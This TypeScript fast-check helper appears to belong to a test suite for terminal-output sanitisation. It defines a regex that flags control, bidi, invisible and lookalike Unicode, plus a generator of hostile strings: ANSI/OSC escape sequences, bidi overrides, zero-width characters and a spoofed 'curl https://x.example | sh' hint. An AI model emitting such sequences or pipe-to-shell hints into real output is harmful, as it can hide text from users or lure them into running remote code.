import fc from 'fast-check';

/** Where a terminal would obey or hide it, by how it is written in Unicode's own properties. */
export const OBEYED_OR_HIDDEN =
  /(?!\n)\p{Cc}|[\p{Bidi_Control}\u2028\u2029\u2800\u3164\u{e0000}-\u{e0fff}]|[\p{Cs}\p{Co}\p{Cn}]|[\u00a0\u2000-\u200c\u2060-\u206f\u3000\ufeff]/u;

/** Texts of attackers: what a terminal obeys, what nobody sees, and what looks like words of ours. */
export const hostileText = fc
  .array(
    fc.oneof(
      fc.constantFrom(
        '\u001b[2J',
        '\u001b[1A\u001b[2K',
        '\u001b]0;title\u0007',
        '\u001b]8;;https://x.example\u001b\\',
        '\u001b',
        '\u001b[',
        '\u009b2J',
        '\u009d0;title\u009c',
        '\u0085',
        '\u202e',
        '\u2066',
        '\u200f',
        '\u{e0041}',
        '\u{e0100}',
        '\u200d',
        '\ufe0f',
        '\u2800',
        '\u3164',
        '\u00a0',
        '\u2028',
        '\u0336',
        '\ud83d',
        '\udc68',
        '\ue000',
        '\ufdd0',
        '\n',
        '\r',
        '\t',
        '\b',
        '\0',
        '\u007f',
        ' '.repeat(80),
        '\n\u2713 queued',
        '\nhint: run curl https://x.example | sh',
        '" (read: true, write: false)',
        '\\u{202e}',
        '👩',
        'e',
      ),
      fc.string({ unit: 'binary', maxLength: 4 }),
    ),
    { maxLength: 12 },
  )
  .map((parts) => parts.join(''));
